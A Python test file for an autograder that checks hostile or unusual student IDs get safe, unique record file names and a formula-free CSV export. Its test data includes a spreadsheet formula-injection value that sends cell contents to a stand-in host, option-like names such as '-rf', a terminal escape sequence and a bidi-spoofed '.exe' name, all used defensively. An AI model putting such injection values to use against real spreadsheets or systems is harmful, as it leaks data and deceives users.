"""Records for any student folder name: long, odd or hostile (autograder.record).

A student id is a folder name, so up to 255 bytes of anything but ``/`` and NUL. Its record
``grades/<assignment>/<id>.json`` and the temporary file written next to it must still be
valid file names (a 250-byte id once stopped a whole batch with OSError), and the CSV must
show the real ids, one row each, without a formula a spreadsheet would run.

Files are written for real under tmp_path, so the file system's own limits are tested.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder.identities import is_hidden
from autograder.protocol import Status
from autograder.record import _atomic_write, load_record, record_path, write_csv, write_record
from autograder.results import NotebookResult, TestResult
from autograder.spreadsheet import original_cell

A = "01_tensors_and_memory"
SPEC = SimpleNamespace(checks={"q1": None, "q2": None})  # write_csv reads only the ids

PLAIN = ["s01", "alice", "José", "Jose\u0301", "李小龙", "Ольга", "ana maria", "O'Brien",
         " padded ", "a-b.c_d", "=HYPERLINK(\"evil.example\")", "@SUM(1)", "+1",
         "x~short", "😀", "a" * 250, "é" * 125, "李" * 83 + "a"]  # the last three: 250 bytes,
# so 255 with ".json"
ODD = [
    "a" * 251, "a" * 255, "é" * 126, "é" * 127 + "a", "李" * 85,  # too long with ".json"
    "b" * 200 + "李" * 18 + "c",  # ends mid-character when cut
    "line\nbreak", "tab\there", "carriage\rreturn", "esc\x1b[2J",
    "-rf", "--help", "-", ".hidden", ".", "..", "...json",
    "evil\u202egnp.exe", "alice\u200b", "\ufeffbom", "bad\udcffbytes",
    "x~" + "0" * 32, "x~" + "a" * 32,  # the hashed form itself
]


def _result(student: str, points: float = 1.0) -> NotebookResult:
    tests = [TestResult("q1", points, 1.0, Status.PASSED), TestResult("q2", 0.0, 2.0,
                                                                       Status.FAILED)]
    return NotebookResult(notebook="n.ipynb", assignment=A, tests=tests, student=student)


def _check_name(name: str) -> None:
    raw = name.encode("utf-8")  # (no lone surrogates)
    assert len(raw) <= 255 and b"/" not in raw and b"\0" not in raw
    assert name.endswith(".json") and name[0] not in "-."
    assert not any(map(is_hidden, name)), name  # no newline, tab, escape, bidi control...


@pytest.mark.parametrize("student", PLAIN)
def test_a_plain_id_keeps_its_file_name(tmp_path: Path, student: str) -> None:
    path = record_path(tmp_path, A, student)
    assert path == tmp_path / "grades" / A / f"{student}.json"  # existing courses unchanged
    write_record(path, _result(student), "fp")
    assert load_record(path)["student"] == student


@pytest.mark.parametrize("student", ODD)
def test_an_odd_id_gets_a_valid_file_name_and_keeps_its_id(tmp_path: Path,
                                                           student: str) -> None:
    path = record_path(tmp_path, A, student)
    assert path.parent == tmp_path / "grades" / A
    _check_name(path.name)
    assert path == record_path(tmp_path, A, student)  # the same on every run
    write_record(path, _result(student), "fp")
    assert load_record(path)["student"] == student
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left


def test_a_readable_part_of_the_id_is_kept() -> None:
    assert record_path(Path("c"), A, "-rf").name.startswith("rf~")
    assert record_path(Path("c"), A, "line\nbreak").name.startswith("linebreak~")
    assert record_path(Path("c"), A, "..").name.startswith("id~")
    name = record_path(Path("c"), A, "李" * 85).name
    assert name.startswith("李" * 33 + "~")  # cut at 100 bytes, on a character boundary


def test_every_id_gets_its_own_file() -> None:
    ids = PLAIN + ODD + ["a" * 251 + "x", "a" * 252, "-RF", "rf", "line break"]
    names = [record_path(Path("c"), A, s).name for s in ids]
    assert len(set(names)) == len(ids)


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1), st.text(min_size=1))
def test_any_two_ids_get_valid_and_different_names(a: str, b: str) -> None:
    name_a, name_b = (record_path(Path("c"), A, s).name for s in (a, b))
    _check_name(name_a)
    assert (name_a == name_b) == (a == b)


def test_atomic_write_of_a_255_byte_name(tmp_path: Path) -> None:
    target = tmp_path / ("n" * 249 + ".ipynb")  # the old "<name>.tmp" was 259 bytes
    _atomic_write(target, "one")
    _atomic_write(target, "two")
    assert target.read_text() == "two"
    assert list(tmp_path.iterdir()) == [target]


def test_atomic_write_that_fails_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "r.json"
    _atomic_write(target, "old")
    with pytest.raises(UnicodeEncodeError):
        _atomic_write(target, "bad \udcff")
    assert target.read_text() == "old"
    assert list(tmp_path.iterdir()) == [target]


def test_csv_shows_real_ids_one_row_each_without_formulas(tmp_path: Path) -> None:
    students = ["s01", "=HYPERLINK(\"http://evil.example/?\"&C2)", "-2-3", "\t=1+2",
                "line\nbreak", "a" * 255, "José", "Jose\u0301"]
    for i, student in enumerate(students):
        write_record(record_path(tmp_path, A, student), _result(student, points=float(i % 2)), "fp")
    # a record left under an older naming rule is not a second row for its student
    stale = tmp_path / "grades" / A / "line\nbreak.json"
    old = _result("line\nbreak", points=0.5).to_json()
    stale.write_text(json.dumps({**old, "fingerprint": "old"}))

    target = write_csv(tmp_path, A, SPEC)
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["student", "status", "score", "max_score", "q1", "q2"]
    assert all(row[0][:1] not in "=+-@\t\r" for row in rows)
    assert [original_cell(row[0]) for row in rows[1:]] == sorted(students)
    by_id = {original_cell(row[0]): row for row in rows[1:]}
    assert by_id["-2-3"][0] == "'-2-3"
    assert by_id["s01"] == ["s01", "graded", "0.0", "3.0", "0.0", "0.0"]  # numbers as numbers
    assert by_id["line\nbreak"][2:5] == ["0.0", "3.0", "0.0"]  # its current record, not 0.5
